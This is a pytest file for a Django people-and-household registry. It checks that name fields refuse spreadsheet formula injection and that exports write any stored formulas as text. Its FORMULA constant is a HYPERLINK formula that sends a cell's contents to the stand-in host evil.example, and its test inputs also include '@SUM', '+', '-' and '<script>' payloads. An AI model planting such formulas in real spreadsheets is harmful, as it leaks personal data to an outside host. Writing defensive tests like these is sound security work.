"""Formula injection (issue 10, item 13): a person's name has only the characters names have, at
every door (form, API, import); and whatever is already stored reaches a spreadsheet as text, never
as a live formula."""

import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.importers import COLUMNS
from core.models import ImportJob, Person
from core.services.people import person_create
from tests.factories import HouseholdFactory, PersonFactory, make_id_number

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize(
    "name",
    [
        "陈志明",
        "阿依古丽·买买提",
        "阿卜杜拉•艾买提",
        "Maria-José García",
        "欧阳 娜娜",
        "李〇",
        "Zoë O",
        "O'Brien",
        "N’Diaye",
        "帕尔哈提．买买提",
        "张\u3000三",
        "J. Smith",
    ],
)
def test_real_names_are_accepted(officer, honglai, name):
    person = person_create(user=officer, name=name, id_number=make_id_number(), township=honglai)
    assert person.name == name


@pytest.mark.parametrize(
    "name", [FORMULA, "+1-2", "@SUM(A1)", "-陈", "张三1", "<script>", 'a"b', "陈(明)", "陈;明", "·陈明", "陈\t明"]
)
def test_names_with_characters_no_name_has_are_refused_with_the_rule(officer, honglai, name):
    with pytest.raises(ValidationError) as exc:
        person_create(user=officer, name=name, id_number=make_id_number(), township=honglai)
    assert "汉字" in exc.value.message_dict["name"][0]
    assert not Person.objects.exists()


def test_the_api_and_the_form_refuse_a_formula_as_a_name(officer, client_for):
    client = client_for(officer)
    api = client.post(
        "/api/v1/people/",
        {"name": FORMULA, "id_number": make_id_number(), "township": "350583113"},
        content_type="application/json",
    )
    assert api.status_code == 400 and "name" in api.json()
    page = client.post(
        reverse("core:person_create"),
        {"name": FORMULA, "id_number": make_id_number(), "township": "350583113", "hukou": "rural"},
    )
    assert page.status_code == 200 and "汉字" in page.content.decode()
    assert not Person.objects.exists()


def test_the_people_import_refuses_a_formula_as_a_name(officer, client_for):
    headers = [c.header for c in COLUMNS]
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(headers)
    values = {"姓名": FORMULA, "身份证号": make_id_number(), "乡镇（街道）": "洪濑镇"}
    ws.append([values.get(h, "") for h in headers])
    ws["A2"].data_type = "s"  # typed as text ('=HYPERLINK...), as a clerk would paste it
    buf = io.BytesIO()
    wb.save(buf)
    upload = SimpleUploadedFile("people.xlsx", buf.getvalue())
    client_for(officer).post(reverse("core:import_upload", args=["people"]), {"file": upload}, follow=True)
    job = ImportJob.objects.get()
    assert job.state == ImportJob.State.REJECTED
    assert any(e["column"] == "姓名" and "汉字" in e["message"] for e in job.errors), job.errors
    assert not Person.objects.exists()


def _cells(response):
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for row in wb.active.iter_rows() for cell in row]


def test_exports_write_stored_formulas_as_text(staff, client_for, honglai):
    # Stored before names were checked (or through a door that did not check): the export is the last line.
    person = PersonFactory(township=honglai, name=FORMULA, phone="+8613905951234")
    HouseholdFactory(head=person, address="@SUM(1+1)")
    client = client_for(staff)
    for url, text in (
        (reverse("core:person_export"), FORMULA),
        (reverse("core:person_export"), "+8613905951234"),
        (reverse("core:household_export"), "@SUM(1+1)"),
    ):
        cells = _cells(client.get(url))
        written = [c for c in cells if c.value == text]
        assert written, url
        assert all(c.data_type == "s" for c in written), url
        assert not any(c.data_type == "f" for c in cells), url


def test_a_users_full_name_follows_the_name_rule_and_is_never_cut(db):
    from core.models import User
    from core.services.users import user_create

    user = user_create(username="wangli", password="Correct-horse-9", role="staff", full_name="局业务人员 王丽")
    assert user.first_name == "局业务人员 王丽"
    for bad, says in ((FORMULA, "汉字"), ("王" * 151, "150")):
        with pytest.raises(ValidationError) as exc:
            user_create(username="other", password="Correct-horse-9", role="staff", full_name=bad)
        assert says in exc.value.message_dict["full_name"][0]
    assert not User.objects.filter(username="other").exists()


def test_a_name_kept_from_before_the_rule_does_not_block_editing_the_person(officer, honglai):
    from core.services.people import person_update

    person = PersonFactory(name="张三1", township=honglai)  # stored before names were checked
    person = person_update(user=officer, person=person, phone="13800000000")
    assert person.name == "张三1" and person.phone == "13800000000"


def test_a_control_character_is_refused_in_an_address_and_never_breaks_an_export(officer, staff, client_for, honglai):
    from core.services.people import household_create

    head = PersonFactory(township=honglai)
    with pytest.raises(ValidationError) as exc:
        household_create(user=officer, head=head, address="洪濑\x0b镇")
    assert "控制字符" in exc.value.message_dict["address"][0]
    HouseholdFactory(head=PersonFactory(township=honglai), address="洪濑\x0b镇")  # stored before the rule
    response = client_for(staff).get(reverse("core:household_export"))
    assert response.status_code == 200
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
    assert "洪濑\ufffd镇" in cells
